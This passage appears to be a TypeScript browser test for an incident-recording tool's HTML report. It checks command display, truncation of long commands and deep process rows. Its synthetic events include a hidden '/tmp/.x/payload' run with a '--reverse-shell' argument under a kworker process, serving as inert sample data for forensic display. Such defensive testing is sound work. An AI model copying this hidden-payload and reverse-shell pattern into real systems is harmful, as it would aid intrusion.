  events.push(processCreate(9 * MS, 500, 10), {
    kind: "exec",
    t: 9 * MS + 1,
    pid: 500,
    tid: 500,
    info: {
      image: "/tmp/.x/payload",
      argv: ["payload", "--reverse-shell"],
      from: {},
    },
  });
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/k.cbor`, events);
    const r = await procrec(["report", "k.cbor", "-o", "k.html"], { cwd: dir });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/k.html`, async (page, _requests, errors) => {
      const first = await rowCommands(page);
      assert(
        first.includes("payload --reverse-shell"),
        `the kworker's program is shown at first: ${first.join(" | ")}`,
      );
      // the long command: its first 2,000 characters in the row
      await page.fill("#search", "echo");
      await page.press("#search", "Enter");
      const echo = page.locator(".row.sel .cmd");
      await echo.waitFor();
      assertEquals(
        await echo.textContent(),
        `echo ${
          "A".repeat(1995)
        }\u2026 (3005 more characters: see the details)`,
      );
      assert(
        (await page.textContent("#details"))!.includes(`echo ${long}`),
        "the details hold the whole command",
      );
      // the row 80 deep: its depth marked, its command inside its column
      await page.click("#expandall");
      await page.fill("#search", "curl");
      await page.press("#search", "Enter");
      const deep = page.locator(".row.sel");
      await deep.waitFor();
      assertEquals(await deep.locator(".deep").textContent(), "depth 79 ");
      const cmd = (await deep.locator(".cmd").boundingBox())!;
      const pid = (await deep.locator(".pid").boundingBox())!;
      assert(
        cmd.x + 20 < pid.x,
        `the command begins in its column: ${cmd.x} against ${pid.x}`,
      );
      assertEquals(errors, [], "no page errors");
    });
  });
});
